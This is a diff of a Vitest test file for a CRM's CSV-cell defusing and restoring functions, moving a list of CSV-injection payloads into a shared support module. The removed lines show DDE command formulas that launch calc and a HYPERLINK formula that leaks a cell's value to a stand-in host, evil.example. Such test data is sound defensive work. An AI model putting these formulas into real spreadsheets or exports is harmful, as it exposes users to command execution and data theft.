@@ -1,24 +1,8 @@
 import { describe, expect, it } from "vitest";
 import { defuseCell, restoreCell } from "../../server/crm/csv-cells.js";
+import { formulaPayloads } from "../support/csv-payloads.js";
 
-/** The classic CSV-injection payloads; the last three are the full-width forms some locales evaluate. */
-const payloads = [
-  "=1+1",
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  "+1+1",
-  "-1+1",
-  "+ 1+1",
-  "- 2+3",
-  "+(1+1)",
-  "-(2*3)+cmd|' /C calc'!A0",
-  "+41-cmd|' /C calc'!A0",
-  "-2+3+cmd|' /C calc'!A0",
-  "\uFF1D1+1",
-  "\uFF0Bcmd|' /C calc'!A0",
-  "\uFF20SUM(1+1)",
-];
+const payloads = formulaPayloads;
 
 describe("CSV cells a spreadsheet would evaluate", () => {
   it.each(payloads)("defuses %j and restores it exactly", (p) => {
